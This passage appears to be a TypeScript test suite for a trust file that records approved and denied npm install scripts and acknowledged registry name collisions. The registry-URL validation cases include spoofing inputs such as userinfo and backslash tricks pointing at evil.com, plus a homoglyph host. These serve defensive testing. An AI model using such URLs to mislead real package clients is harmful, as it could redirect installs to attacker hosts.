      assertRefused(`{"version": 1, "packages": {}, "collisions": {"x": "2026-01-01T00:00:00Z"}}`, 1, 52,
        `collisions["x"]: expected an acknowledgement object, found the string "2026-01-01T00:00:00Z"`);
    });

    it(`refuses a missing acknowledgedAt`, () => {
      assertRefused(mutateCollisions(`      "acknowledgedAt": "2026-11-26T10:00:00.000Z",\n`, ``), 15, 19, `${at}: missing required key "acknowledgedAt"`);
    });

    it(`refuses a missing publicRegistry`, () => {
      assertRefused(mutateCollisions(`,\n      "publicRegistry": "https://registry.npmjs.org"`, ``), 15, 19, `${at}: missing required key "publicRegistry"`);
    });

    it(`refuses an empty acknowledgement`, () => {
      assertRefused(`{"version": 1, "packages": {}, "collisions": {"x": {}}}`, 1, 52, `collisions["x"]: missing required key "acknowledgedAt"`);
    });

    it(`refuses an unknown key before complaining about a missing one, listing the allowed ones in written order`, () => {
      const allowed = `allowed keys are "acknowledgedAt", "reason", "publicRegistry"`;
      assertRefused(mutateCollisions(`"acknowledgedAt": "2026-11-26T10`, `"acknowledgeAt": "2026-11-26T10`), 16, 7, `${at}: unknown key "acknowledgeAt"; ${allowed}`);
      assertRefused(mutateCollisions(`"publicRegistry": "https://registry.npmjs.org"`, `"registry": "https://registry.npmjs.org"`), 18, 7, `${at}: unknown key "registry"; ${allowed}`);
      assertRefused(mutateCollisions(`"publicRegistry": "https://registry.npmjs.org"`, `"publicRegistry": "https://registry.npmjs.org", "approvedAt": "2026-11-26T10:00:00.000Z"`), 18, 55,
        `${at}: unknown key "approvedAt"; ${allowed}`);
    });

    it(`refuses an empty or non-string reason`, () => {
      assertRefused(mutateCollisions(`"we own corp-utils on npmjs.com too"`, `""`), 17, 17, `${at}.reason: expected a non-empty string, found the string ""`);
      assertRefused(mutateCollisions(`"we own corp-utils on npmjs.com too"`, `null`), 17, 17, `${at}.reason: expected a non-empty string, found null`);
      assertRefused(mutateCollisions(`"we own corp-utils on npmjs.com too"`, `["x"]`), 17, 17, `${at}.reason: expected a non-empty string, found an array`);
    });

    it(`refuses acknowledgedAt values that are not UTC timestamps`, () => {
      const expected = `expected an ISO-8601 UTC timestamp such as "2026-11-26T10:00:00.000Z"`;
      for (const value of [`2026-11-26`, `2026-11-26T10:00:00+00:00`, `2026-11-26T10:00:00`, `2026-02-29T00:00:00Z`, `2026-11-26T24:00:00Z`, `2026-11-26T10:00:00.1Z`, ``]) {
        assertRefused(mutateCollisions(`"acknowledgedAt": "2026-11-26T10:00:00.000Z"`, `"acknowledgedAt": ${JSON.stringify(value)}`), 16, 25,
          `${at}.acknowledgedAt: ${expected}, found the string ${JSON.stringify(value)}`);
      }
      assertRefused(mutateCollisions(`"acknowledgedAt": "2026-11-26T10:00:00.000Z"`, `"acknowledgedAt": 1795600800000`), 16, 25,
        `${at}.acknowledgedAt: ${expected}, found the number 1795600800000`);
    });

    it(`accepts timestamps with and without milliseconds and leap days`, () => {
      for (const value of [`2024-02-29T23:59:59.999Z`, `2026-12-31T23:59:59Z`]) {
        const trust = parseTrustFile(mutateCollisions(`"acknowledgedAt": "2026-11-26T10:00:00.000Z"`, `"acknowledgedAt": ${JSON.stringify(value)}`), FILE);
        assert.equal(trust.collisions[`corp-utils`].acknowledgedAt, value);
      }
    });
  });

  describe(`when a publicRegistry is not a registry URL`, () => {
    const at = `collisions["corp-utils"].publicRegistry`;
    const expected = `expected an absolute "https:" or "http:" registry URL such as "https://registry.npmjs.org"`;
    const withRegistry = (value: string) => mutateCollisions(`"https://registry.npmjs.org"`, value);

    it(`refuses a value that is not a string`, () => {
      assertRefused(withRegistry(`1`), 18, 25, `${at}: ${expected}, found the number 1`);
      assertRefused(withRegistry(`null`), 18, 25, `${at}: ${expected}, found null`);
      assertRefused(withRegistry(`{"url": "https://registry.npmjs.org"}`), 18, 25, `${at}: ${expected}, found an object`);
      assertRefused(withRegistry(`["https://registry.npmjs.org"]`), 18, 25, `${at}: ${expected}, found an array`);
    });

    const notStarting = `it does not start with "https://" or "http://"`;
    const userinfo = `it contains userinfo (a "@" before the host)`;
    const unprintable = `it contains a space, a control character or a non-ASCII character`;
    const cases: Array<[string, string]> = [
      [``, `the URL is empty`],
      [`registry.npmjs.org`, notStarting],
      [`//registry.npmjs.org`, notStarting],
      [`/registry`, notStarting],
      [`ftp://registry.npmjs.org`, notStarting],
      [`git+https://registry.npmjs.org`, notStarting],
      [`file:///srv/registry`, notStarting],
      [`HTTPS://registry.npmjs.org`, notStarting],
      [`https:registry.npmjs.org`, notStarting],
      [`https:/registry.npmjs.org`, notStarting],
      [`https://registry.npmjs.org@evil.com/`, userinfo],
      [`https://user:secret@npm.corp/`, userinfo],
      [`https://@npm.corp`, userinfo],
      [`https://registry.npmjs.org/?token=x`, `it has a query ("?")`],
      [`https://registry.npmjs.org?`, `it has a query ("?")`],
      [`https://registry.npmjs.org/#top`, `it has a fragment ("#")`],
      [`https://registry.npmjs.org#`, `it has a fragment ("#")`],
      [`https://`, `it has no host`],
      [`https:///registry.npmjs.org`, `it has no host`],
      [`https://evil.com\\@registry.npmjs.org`, `it contains a backslash`],
      [`https:\\\\registry.npmjs.org`, notStarting],
      [` https://registry.npmjs.org`, unprintable],
      [`https://registry.npmjs.org `, unprintable],
      [`https://registry.npmjs.org\n`, unprintable],
      [`https://registry.npmjs.org/a\tb`, unprintable],
      [`https://reg\u0456stry.npmjs.org`, unprintable],
      [`https://registry.npmjs.org\u00a0`, unprintable],
      [`https://npm.corp:99999/`, `it is not a valid URL`],
      [`https://[::1/`, `it is not a valid URL`],
      [`http://256.256.256.256/`, `it is not a valid URL`],
      [`https://npm%.corp/`, `it is not a valid URL`],
    ];

    for (const [url, problem] of cases) {
      it(`refuses ${JSON.stringify(url)}`, () => {
        assertRefused(withRegistry(JSON.stringify(url)), 18, 25, `${at}: invalid registry URL ${JSON.stringify(url)}: ${problem}; ${expected}`);
        assert.equal(registryUrlProblem(url), problem);
      });
    }

    it(`shortens a long value in the message`, () => {
      const long = `ftp://${`x`.repeat(100)}`;
      assertRefused(withRegistry(JSON.stringify(long)), 18, 25, `${at}: invalid registry URL "ftp://${`x`.repeat(49)}...": ${notStarting}; ${expected}`);
    });

    it(`accepts registry URLs as written, which the confusion checks can normalize`, () => {
      const urls = [
        `https://registry.npmjs.org`,
        `https://registry.npmjs.org/`,
        `https://registry.npmjs.org:443/`,
        `http://127.0.0.1:4873/`,
        `http://localhost:4873`,
        `http://[::1]:4873/`,
        `https://npm.pkg.github.com/corp`,
        `https://npm.corp/@corp/`,
        `https://artifactory.corp:8443/artifactory/api/npm/npm-virtual/`,
        `https://NPM.Corp/Repo`,
        `https://npm.corp/a%20b/`,
      ];
      for (const url of urls) {
        const trust = parseTrustFile(withRegistry(JSON.stringify(url)), FILE);
        assert.equal(trust.collisions[`corp-utils`].publicRegistry, url);
        assert.equal(registryUrlProblem(url), null, url);
        assert.notEqual(normalizeRegistryUrl(url), null, url);
        assert.equal(serializeTrustFile(trust), withRegistry(JSON.stringify(url)));
      }
    });
  });
});

describe(`serializeTrustFile`, () => {
  describe(`when given a built trust file`, () => {
    it(`writes the canonical layout: fixed key order, 2-space indent, LF and a final newline`, () => {
      let trust = emptyTrustFile();
      trust = withDenial(trust, `b`, {deniedAt: `2026-01-01T00:00:00Z`});
      trust = withApproval(trust, `a`, {
        reason: `why`,
        approvedAt: `2026-01-02T00:00:00.000Z`,
        files: {},
        scripts: {install: `x`},
        version: `1.0.0`,
      });

      assert.equal(serializeTrustFile(trust), [
        `{`,
        `  "version": 1,`,
        `  "packages": {`,
        `    "a": {`,
        `      "approvals": [`,
        `        {`,
        `          "version": "1.0.0",`,
        `          "scripts": {`,
        `            "install": "x"`,
        `          },`,
        `          "files": {},`,
        `          "approvedAt": "2026-01-02T00:00:00.000Z",`,
        `          "reason": "why"`,
        `        }`,
        `      ]`,
        `    },`,
        `    "b": {`,
        `      "denied": {`,
        `        "deniedAt": "2026-01-01T00:00:00Z"`,
        `      }`,
        `    }`,
        `  }`,
        `}`,
        ``,
      ].join(`\n`));
    });

    it(`writes an empty trust file as version and empty packages`, () => {
      assert.equal(serializeTrustFile(emptyTrustFile()), `{\n  "version": 1,\n  "packages": {}\n}\n`);
    });

    it(`sorts package names by code unit, integer-like names included`, () => {
      let trust = emptyTrustFile();
      for (const name of [`b`, `@scope/z`, `a`, `9`, `10`, `@scope/a`, `a-b`, `a.b`])
        trust = withDenial(trust, name, {deniedAt: `2026-01-01T00:00:00Z`});
      const names = Object.keys(parseTrustFile(serializeTrustFile(trust), FILE).packages);
      const written = [...serializeTrustFile(trust).matchAll(/^ {4}"([^"]+)": \{$/gm)].map(match => match[1]);
      assert.deepEqual(written, [`10`, `9`, `@scope/a`, `@scope/z`, `a`, `a-b`, `a.b`, `b`]);
      assert.deepEqual(new Set(names), new Set(written));
    });

    it(`sorts approvals by semver, not by text`, () => {
      let trust = emptyTrustFile();
      for (const version of [`1.10.0`, `1.9.0`, `1.10.0-beta.1`, `0.0.1`, `1.10.0-beta.10`, `1.10.0-beta.2`])
        trust = withApproval(trust, `p`, approval(version));
      const written = [...serializeTrustFile(trust).matchAll(/^ {10}"version": "([^"]+)",$/gm)].map(match => match[1]);
      assert.deepEqual(written, [`0.0.1`, `1.9.0`, `1.10.0-beta.1`, `1.10.0-beta.2`, `1.10.0-beta.10`, `1.10.0`]);
    });

    it(`sorts scripts as preinstall, install, postinstall, then the others by code unit`, () => {
      const trust = withApproval(emptyTrustFile(), `p`, approval(`1.0.0`, {
        scripts: {zeta: `z`, postinstall: `c`, build: `x`, install: `b`, Zed: `y`, preinstall: `a`, 10: `n`},
      }));
      const written = [...serializeTrustFile(trust).matchAll(/^ {12}"([^"]+)": "[^"]*",?$/gm)].map(match => match[1]);
      assert.deepEqual(written, [`preinstall`, `install`, `postinstall`, `10`, `Zed`, `build`, `zeta`, `install.js`]);
    });

    it(`sorts files by path in code-unit order`, () => {
      const hash = `sha512-AAAA`;
      const trust = withApproval(emptyTrustFile(), `p`, approval(`1.0.0`, {
        files: {'lib/z.js': hash, '9.js': hash, 'é.js': hash, 'a.js': hash, '10.js': hash, 'Z.js': hash, 'lib/a b.js': hash, 'lib.js': hash},
      }));
      const text = serializeTrustFile(trust);
      const written = [...text.matchAll(/^ {12}"([^"]+)": "sha512-AAAA",?$/gm)].map(match => match[1]);
      assert.deepEqual(written, [`10.js`, `9.js`, `Z.js`, `a.js`, `lib.js`, `lib/a b.js`, `lib/z.js`, `é.js`]);
    });

    it(`leaves out a reason that is absent or undefined`, () => {
      const trust = withDenial(withApproval(emptyTrustFile(), `a`, approval(`1.0.0`, {reason: undefined})), `b`, {deniedAt: `2026-01-01T00:00:00Z`, reason: undefined});
      assert.doesNotMatch(serializeTrustFile(trust), /reason/);
      assert.deepEqual(parseTrustFile(serializeTrustFile(trust), FILE), trust);
    });

    it(`leaves out an undefined reason in data built without the edit functions`, () => {
      const trust: TrustFile = {version: 1, packages: {
        a: {approvals: [approval(`1.0.0`, {reason: undefined})]},
        b: {denied: {deniedAt: `2026-01-01T00:00:00Z`, reason: undefined}},
      }, collisions: {}};
      const text = serializeTrustFile(trust);
      assert.doesNotMatch(text, /reason|undefined/);
      assert.equal(text, serializeTrustFile(withDenial(withApproval(emptyTrustFile(), `a`, approval(`1.0.0`)), `b`, {deniedAt: `2026-01-01T00:00:00Z`})));
    });

    it(`writes non-ASCII text as UTF-8 and escapes control characters`, () => {
      const reason = `ünïcødé — 中文 😀 </script> \u2028 bell\u0007 "q" back\\slash`;
      const text = serializeTrustFile(withDenial(emptyTrustFile(), `p`, {deniedAt: `2026-01-01T00:00:00Z`, reason}));
      assert.ok(text.includes(`"reason": "ünïcødé — 中文 😀 </script> \u2028 bell\\u0007 \\"q\\" back\\\\slash"`), text);
      const entry = parseTrustFile(text, FILE).packages.p;
      assert.deepEqual(entry, {denied: {deniedAt: `2026-01-01T00:00:00Z`, reason}});
    });

    it(`does not depend on the order in which decisions were recorded`, () => {
      const decisions: Array<(trust: TrustFile) => TrustFile> = [
        trust => withApproval(trust, `esbuild`, approval(`0.19.2`)),
        trust => withApproval(trust, `esbuild`, approval(`0.18.0`, {scripts: {install: `x`, postinstall: `y`}})),
        trust => withDenial(trust, `evil-thing`, {deniedAt: `2026-01-01T00:00:00Z`}),
        trust => withApproval(trust, `@scope/b`, approval(`2.0.0`, {files: {'b.js': `sha512-BB==`, 'a.js': `sha512-AA==`}})),
        trust => withApproval(trust, `@scope/a`, approval(`1.0.0`, {files: {'a.js': `sha512-AA==`, 'b.js': `sha512-BB==`}})),
      ];
      const forward = decisions.reduce((trust, decide) => decide(trust), emptyTrustFile());
      const backward = [...decisions].reverse().reduce((trust, decide) => decide(trust), emptyTrustFile());
      assert.notDeepEqual(Object.keys(forward.packages), Object.keys(backward.packages));
      assert.equal(serializeTrustFile(forward), serializeTrustFile(backward));
    });

    it(`round-trips randomly built trust files and stays independent of insertion order`, () => {
      const random = mulberry32(0x7275);
      const pick = <T>(items: Array<T>): T => items[Math.floor(random() * items.length)];
      const names = [`a`, `b`, `z`, `10`, `9`, `@s/a`, `@s/b`, `@t/a`, `a.b`, `a-b`, `constructor`, `tostring`];
      const scriptNames = [`preinstall`, `install`, `postinstall`, `prepare`, `build`, `__proto__`, `10`, `2`];
      const paths = [`install.js`, `lib/a.js`, `lib/b.js`, `10.js`, `9.js`, `bin/é`, `__proto__`, `Z`];
      const versions = [`0.0.1`, `0.1.0`, `1.0.0`, `1.0.0-rc.1`, `1.10.0`, `1.9.0`, `2.0.0+b`];

      for (let round = 0; round < 200; ++round) {
        const decisions: Array<(trust: TrustFile) => TrustFile> = [];
        for (let k = 0, count = Math.floor(random() * 12); k < count; ++k) {
          const name = pick(names);
          if (random() < 0.2) {
            const denial: Denial = {deniedAt: `2026-0${1 + Math.floor(random() * 9)}-01T00:00:00Z`};
            decisions.push(trust => withDenial(trust, name, denial));
          } else if (random() < 0.1) {
            decisions.push(trust => withoutPackage(trust, name));
          } else {
            const scripts: Record<string, string> = {[pick([`preinstall`, `install`, `postinstall`])]: `x`};
            const files: Record<string, string> = {};
            for (let j = Math.floor(random() * 4); j > 0; --j) {
              Object.defineProperty(scripts, pick(scriptNames), {value: `cmd ${j}`, enumerable: true, writable: true, configurable: true});
              Object.defineProperty(files, pick(paths), {value: `sha512-${j}A==`, enumerable: true, writable: true, configurable: true});
            }
            const added = approval(pick(versions), {scripts, files, ...(random() < 0.5 ? {reason: `r${round}`} : {})});
            decisions.push(trust => withApproval(trust, name, added));
          }
        }

        const built = decisions.reduce((trust, decide) => decide(trust), emptyTrustFile());
        const text = serializeTrustFile(built);
        assert.deepEqual(parseTrustFile(text, FILE), built);
        assert.equal(serializeTrustFile(parseTrustFile(text, FILE)), text);

        // Rebuilding the same final content with every record inserted in
        // reverse must not change a byte.
        const reversed: TrustFile = {version: 1, packages: {}, collisions: {}};
        for (const name of Object.keys(built.packages).reverse()) {
          const entry = built.packages[name];
          const copy = `approvals` in entry
            ? {approvals: [...entry.approvals].reverse().map(a => ({
              ...a,
              scripts: Object.fromEntries(Object.entries(a.scripts).reverse()),
              files: Object.fromEntries(Object.entries(a.files).reverse()),
            }))}
            : entry;
          Object.defineProperty(reversed.packages, name, {value: copy, enumerable: true, writable: true, configurable: true});
        }
        assert.equal(serializeTrustFile(reversed), text);
      }
    });
  });

  describe(`when given data the parser would refuse`, () => {
    const assertWriteRefused = (trust: TrustFile, reason: RegExp) => {
      assert.throws(() => serializeTrustFile(trust), (error: unknown) => {
        assert.ok(error instanceof TrustFileError);
        assert.equal(error.file, `(trust file being written)`);
        assert.match(error.reason, reason);
        return true;
      });
    };

    it(`writes an approval of a package whose name has capitals (outside attack round 6, A18: approve crashed)`, () => {
      const text = serializeTrustFile(withApproval(emptyTrustFile(), `JSONStream`, approval(`1.0.0`)));
      assert.deepEqual(Object.keys(parseTrustFile(text, FILE).packages), [`JSONStream`]);
    });

    it(`refuses an invalid package name`, () => {
      assertWriteRefused(withDenial(emptyTrustFile(), `Bad Name`, {deniedAt: `2026-01-01T00:00:00Z`}), /^packages\["Bad Name"\]: invalid package name: it contains characters other than letters, digits/);
    });

    it(`refuses an approval with neither an install-time script nor a file`, () => {
      assertWriteRefused(withApproval(emptyTrustFile(), `p`, approval(`1.0.0`, {scripts: {}, files: {}})), /^packages\["p"\]\.approvals\[0\]\.scripts: expected install scripts, or files that other packages run at install time; found neither/);
    });

    it(`refuses a version range and a local-time timestamp`, () => {
      assertWriteRefused(withApproval(emptyTrustFile(), `p`, approval(`^1.0.0`)), /^packages\["p"\]\.approvals\[0\]\.version: expected an exact semver version/);
      assertWriteRefused(withDenial(emptyTrustFile(), `p`, {deniedAt: `2026-01-01T00:00:00+01:00`}), /^packages\["p"\]\.denied\.deniedAt: expected an ISO-8601 UTC timestamp/);
    });

    it(`refuses an entry carrying both approvals and a denial instead of dropping one`, () => {
      const both = {approvals: [approval(`1.0.0`)], denied: {deniedAt: `2026-01-01T00:00:00Z`}};
      assertWriteRefused({version: 1, packages: {p: both}, collisions: {}}, /^packages\["p"\]: expected exactly one of "approvals" or "denied", found both$/);
    });

    it(`refuses another version number`, () => {
      assertWriteRefused({version: 2 as 1, packages: {}, collisions: {}}, /^version: unsupported trust file version 2/);
    });
  });

  describe(`when given acknowledged collisions`, () => {
    it(`writes them after packages: names by code unit, keys as acknowledgedAt, reason, publicRegistry`, () => {
      let trust = withDenial(emptyTrustFile(), `esbuild`, {deniedAt: `2026-11-26T10:00:00.000Z`});
      trust = withCollisionAcknowledged(trust, `corp-utils`, {publicRegistry: `https://registry.npmjs.org`, reason: `we own corp-utils on npmjs.com too`, acknowledgedAt: `2026-11-26T10:00:00.000Z`});
      trust = withCollisionAcknowledged(trust, `@corp/ui`, {publicRegistry: `http://127.0.0.1:4873/`, acknowledgedAt: `2026-11-27T08:30:00Z`});
      assert.equal(serializeTrustFile(trust), WITH_COLLISIONS);
    });

    it(`writes the section when it is the only content`, () => {
      assert.equal(serializeTrustFile(withCollisionAcknowledged(emptyTrustFile(), `corp-utils`, acknowledgement())), [
        `{`,
        `  "version": 1,`,
        `  "packages": {},`,
        `  "collisions": {`,
        `    "corp-utils": {`,
        `      "acknowledgedAt": "2026-01-02T03:04:05.000Z",`,
        `      "publicRegistry": "https://registry.npmjs.org"`,
        `    }`,
        `  }`,
        `}`,
        ``,
      ].join(`\n`));
    });

    it(`leaves the section out when it is empty, so files without acknowledgements keep their bytes`, () => {
      assert.equal(serializeTrustFile(emptyTrustFile()), `{\n  "version": 1,\n  "packages": {}\n}\n`);
      const text = serializeTrustFile(withoutCollisionAcknowledgement(withCollisionAcknowledged(parseTrustFile(EXAMPLE, FILE), `corp-utils`, acknowledgement()), `corp-utils`));
      assert.equal(text, EXAMPLE);
      assert.doesNotMatch(text, /collisions/);
    });

    it(`sorts names by code unit, integer-like names included`, () => {
      let trust = emptyTrustFile();
      for (const name of [`corp-utils`, `@corp/z`, `10`, `constructor`, `9`, `@corp/a`, `a.b`, `a-b`])
        trust = withCollisionAcknowledged(trust, name, acknowledgement());
      const written = [...serializeTrustFile(trust).matchAll(/^ {4}"([^"]+)": \{$/gm)].map(match => match[1]);
      assert.deepEqual(written, [`10`, `9`, `@corp/a`, `@corp/z`, `a-b`, `a.b`, `constructor`, `corp-utils`]);
    });

    it(`leaves out a reason that is absent or undefined`, () => {
      const built = withCollisionAcknowledged(emptyTrustFile(), `corp-utils`, acknowledgement({reason: undefined}));
      const literal: TrustFile = {version: 1, packages: {}, collisions: {'corp-utils': acknowledgement({reason: undefined})}};
      for (const trust of [built, literal]) {
        const text = serializeTrustFile(trust);
        assert.doesNotMatch(text, /reason|undefined/);
        assert.equal(text, serializeTrustFile(withCollisionAcknowledged(emptyTrustFile(), `corp-utils`, acknowledgement())));
      }
    });

    it(`reads a trust file built without the collisions record as acknowledging nothing`, () => {
      const legacy = deepFreeze({version: 1, packages: {esbuild: {denied: {deniedAt: `2026-11-26T10:00:00.000Z`}}}} as unknown as TrustFile);
      const withoutSection = serializeTrustFile({...WITH_COLLISIONS_MODEL, collisions: {}});
      assert.equal(serializeTrustFile(legacy), withoutSection);
      assert.deepEqual(withoutPackage(legacy, `esbuild`), emptyTrustFile());
      assert.deepEqual(withDenial(legacy, `x`, {deniedAt: `2026-11-26T10:00:00.000Z`}).collisions, {});
      assert.deepEqual(withApproval(legacy, `x`, approval(`1.0.0`)).collisions, {});
      assert.deepEqual(withoutCollisionAcknowledgement(legacy, `x`), {...legacy, collisions: {}});
      assert.deepEqual(withCollisionAcknowledged(legacy, `x`, acknowledgement()).collisions, {x: acknowledgement()});
    });

    it(`round-trips random mixes of decisions and acknowledgements, independent of insertion order`, () => {
      const random = mulberry32(0xc0111de);
      const pick = <T>(items: Array<T>): T => items[Math.floor(random() * items.length)];
      const names = [`a`, `z`, `10`, `9`, `@corp/a`, `@corp/b`, `corp-utils`, `corp.utils`, `constructor`, `tostring`];
      const registries = [`https://registry.npmjs.org`, `https://registry.npmjs.org/`, `http://127.0.0.1:4873`];

      for (let round = 0; round < 200; ++round) {
        let trust = emptyTrustFile();
        const expectedCollisions = new Map<string, CollisionAcknowledgement>();
        const expectedPackages = new Set<string>();
        for (let k = 0, count = Math.floor(random() * 16); k < count; ++k) {
          const name = pick(names);
          const choice = random();
          if (choice < 0.4) {
            const added = acknowledgement({acknowledgedAt: `2026-0${1 + Math.floor(random() * 9)}-01T00:00:00Z`, publicRegistry: pick(registries), ...(random() < 0.5 ? {reason: `r${k}`} : {})});
            trust = withCollisionAcknowledged(trust, name, added);
            expectedCollisions.set(name, added);
          } else if (choice < 0.55) {
            trust = withoutCollisionAcknowledgement(trust, name);
            expectedCollisions.delete(name);
          } else if (choice < 0.85) {
            trust = withDenial(trust, name, {deniedAt: `2026-01-01T00:00:00Z`});
            expectedPackages.add(name);
          } else {
            trust = withoutPackage(trust, name);
            expectedPackages.delete(name);
          }
        }

        assert.deepEqual(trust.collisions, Object.fromEntries(expectedCollisions));
        assert.deepEqual(new Set(Object.keys(trust.packages)), expectedPackages);

        const text = serializeTrustFile(trust);
        assert.deepEqual(parseTrustFile(text, FILE), trust);
        assert.equal(serializeTrustFile(parseTrustFile(text, FILE)), text);
        assert.equal(text.includes(`"collisions"`), expectedCollisions.size > 0);

        const reversed: TrustFile = {version: 1, packages: {}, collisions: {}};
        for (const name of Object.keys(trust.packages).reverse())
          Object.defineProperty(reversed.packages, name, {value: trust.packages[name], enumerable: true, writable: true, configurable: true});
        for (const name of Object.keys(trust.collisions).reverse()) {
          const copy = Object.fromEntries(Object.entries(trust.collisions[name]).reverse()) as unknown as CollisionAcknowledgement;
          Object.defineProperty(reversed.collisions, name, {value: copy, enumerable: true, writable: true, configurable: true});
        }
        assert.equal(serializeTrustFile(reversed), text);
      }
    });
  });

  describe(`when given acknowledgements the parser would refuse`, () => {
    const assertWriteRefused = (trust: TrustFile, reason: string) => {
      assert.throws(() => serializeTrustFile(trust), (error: unknown) => {
        assert.ok(error instanceof TrustFileError);
        assert.equal(error.file, `(trust file being written)`);
        assert.equal(error.reason, reason);
        return true;
      });
    };
    const acknowledged = (name: string, overrides: Partial<CollisionAcknowledgement> = {}) =>
      withCollisionAcknowledged(emptyTrustFile(), name, acknowledgement(overrides));

    it(`refuses an invalid name`, () => {
      assertWriteRefused(acknowledged(`Corp-Utils`), `collisions["Corp-Utils"]: invalid package name: it contains uppercase letters; expected an npm package name such as "esbuild" or "@scope/name"`);
    });

    it(`refuses "__proto__" as a name, keeping it an ordinary key until then`, () => {
      const trust = acknowledged(`__proto__`);
      assert.equal(Object.getPrototypeOf(trust.collisions), Object.prototype);
      assert.deepEqual(Object.keys(trust.collisions), [`__proto__`]);
      assertWriteRefused(trust, `collisions["__proto__"]: invalid package name: a name or scope may not start with "." or "_"; expected an npm package name such as "esbuild" or "@scope/name"`);
    });

    it(`refuses a registry URL with userinfo or a query`, () => {
      const expected = `expected an absolute "https:" or "http:" registry URL such as "https://registry.npmjs.org"`;
      assertWriteRefused(acknowledged(`x`, {publicRegistry: `https://registry.npmjs.org@evil.com`}),
        `collisions["x"].publicRegistry: invalid registry URL "https://registry.npmjs.org@evil.com": it contains userinfo (a "@" before the host); ${expected}`);
      assertWriteRefused(acknowledged(`x`, {publicRegistry: `https://registry.npmjs.org/?a=1`}),
        `collisions["x"].publicRegistry: invalid registry URL "https://registry.npmjs.org/?a=1": it has a query ("?"); ${expected}`);
    });

    it(`refuses a local-time timestamp and an empty reason`, () => {
      assertWriteRefused(acknowledged(`x`, {acknowledgedAt: `2026-01-01T00:00:00+01:00`}),
        `collisions["x"].acknowledgedAt: expected an ISO-8601 UTC timestamp such as "2026-11-26T10:00:00.000Z", found the string "2026-01-01T00:00:00+01:00"`);
      assertWriteRefused(acknowledged(`x`, {reason: ``}), `collisions["x"].reason: expected a non-empty string, found the string ""`);
    });
  });
});

describe(`emptyTrustFile`, () => {
  describe(`when called twice`, () => {
    it(`returns independent objects of the current version`, () => {
      const first = emptyTrustFile();
      const second = emptyTrustFile();
      assert.deepEqual(first, {version: TRUST_FILE_VERSION, packages: {}, collisions: {}});
      assert.notEqual(first.packages, second.packages);
      assert.notEqual(first.collisions, second.collisions);
    });
  });
});

describe(`withApproval`, () => {
  describe(`when the package is unknown`, () => {
    it(`adds it with one approval, leaving the input untouched`, () => {
      const input = deepFreeze(parseTrustFile(EXAMPLE, FILE));
      const added = approval(`1.0.0`);
      const result = withApproval(input, `new-pkg`, deepFreeze(added));
      assert.deepEqual(result.packages[`new-pkg`], {approvals: [added]});
      assert.deepEqual(input, EXAMPLE_MODEL);
      assert.equal(result.packages.esbuild, input.packages.esbuild);
    });
  });

  describe(`when the package has approvals of other versions`, () => {
    it(`keeps them and inserts the new one in version order`, () => {
      const input = deepFreeze(parseTrustFile(EXAMPLE, FILE));
      const result = withApproval(input, `esbuild`, approval(`0.9.0`));
      const entry = result.packages.esbuild;
      assert.ok(`approvals` in entry);
      assert.deepEqual(entry.approvals.map(a => a.version), [`0.9.0`, `0.19.2`]);
      assert.deepEqual(input, EXAMPLE_MODEL);
    });
  });

  describe(`when the package has an approval of the same version and fingerprint`, () => {
    it(`keeps the recorded one, with its date and reason (review history is never rewritten)`, () => {
      const input = deepFreeze(withApproval(withApproval(emptyTrustFile(), `p`, approval(`1.0.0`, {reason: `first review`})), `p`, approval(`2.0.0`)));
      const again = approval(`1.0.0`, {reason: `re-reviewed`, approvedAt: `2026-12-01T00:00:00Z`});
      assert.equal(hasApproval(input, `p`, again), true);
      const result = withApproval(input, `p`, again);
      assert.equal(result, input);
      assert.deepEqual(result.packages.p, {approvals: [approval(`1.0.0`, {reason: `first review`}), approval(`2.0.0`)]});
    });
  });

  describe(`when a new version is approved next to older ones`, () => {
    it(`leaves every older approval byte for byte as it was`, () => {
      const input = deepFreeze(withApproval(emptyTrustFile(), `p`, approval(`1.0.0`, {reason: `first review`, approvedAt: `2026-01-01T00:00:00Z`})));
      const before = serializeTrustFile(input);
      const result = withApproval(input, `p`, approval(`1.1.0`, {scripts: {install: `other`}, reason: `second review`, approvedAt: `2026-12-01T00:00:00Z`}));
      const entry = result.packages.p as {approvals: Array<{version: string, reason?: string, approvedAt: string}>};
      assert.deepEqual(entry.approvals.map(a => [a.version, a.reason, a.approvedAt]), [[`1.0.0`, `first review`, `2026-01-01T00:00:00Z`], [`1.1.0`, `second review`, `2026-12-01T00:00:00Z`]]);
      assert.equal(serializeTrustFile(input), before);
    });
  });

  describe(`when the package has an approval of the same version with another fingerprint`, () => {
    it(`keeps both, since both exist (a registry package and its patch)`, () => {
      const input = deepFreeze(withApproval(emptyTrustFile(), `p`, approval(`1.0.0`)));
      const patched = approval(`1.0.0`, {scripts: {install: `patched`}});
      const result = withApproval(input, `p`, patched);
      const approvals = (result.packages.p as {approvals: unknown[]}).approvals;
      assert.equal(approvals.length, 2);
      assert.ok(approvals.some(entry => JSON.stringify(entry) === JSON.stringify(patched)));
      assert.equal(parseTrustFile(serializeTrustFile(result), FILE).packages.p !== undefined, true);
    });
  });

  describe(`when the package is denied`, () => {
    it(`drops the denial`, () => {
      const input = deepFreeze(parseTrustFile(EXAMPLE, FILE));
      const result = withApproval(input, `evil-thing`, approval(`3.0.0`));
      assert.deepEqual(result.packages[`evil-thing`], {approvals: [approval(`3.0.0`)]});
      assert.deepEqual(input, EXAMPLE_MODEL);
    });
  });

  describe(`when the caller changes its approval object afterwards`, () => {
    it(`is not affected`, () => {
      const added = approval(`1.0.0`);
      const result = withApproval(emptyTrustFile(), `p`, added);
      added.scripts.install = `changed`;
      added.files[`other.js`] = `sha512-BBBB`;
      assert.deepEqual(result.packages.p, {approvals: [approval(`1.0.0`)]});
    });
  });

  describe(`when the name is an Object.prototype member`, () => {
    it(`treats it as an ordinary package`, () => {
      const result = withApproval(emptyTrustFile(), `constructor`, approval(`1.0.0`));
      assert.deepEqual(result.packages.constructor, {approvals: [approval(`1.0.0`)]});
      assert.match(serializeTrustFile(result), /"constructor": \{/);
    });
  });
});

describe(`withoutApproval`, () => {
  describe(`when the package has other approvals`, () => {
    it(`removes only the one of that version and fingerprint, leaving the input untouched`, () => {
      const input = deepFreeze(withApproval(withApproval(emptyTrustFile(), `p`, approval(`1.0.0`)), `p`, approval(`2.0.0`)));
      const result = withoutApproval(input, `p`, approval(`1.0.0`, {reason: `dates and reasons do not matter`}));
      assert.deepEqual(result.packages.p, {approvals: [approval(`2.0.0`)]});
      assert.deepEqual((input.packages.p as {approvals: unknown[]}).approvals.length, 2);
    });
  });

  describe(`when it is the last approval`, () => {
    it(`forgets the package`, () => {
      const result = withoutApproval(withApproval(emptyTrustFile(), `p`, approval(`1.0.0`)), `p`, approval(`1.0.0`));
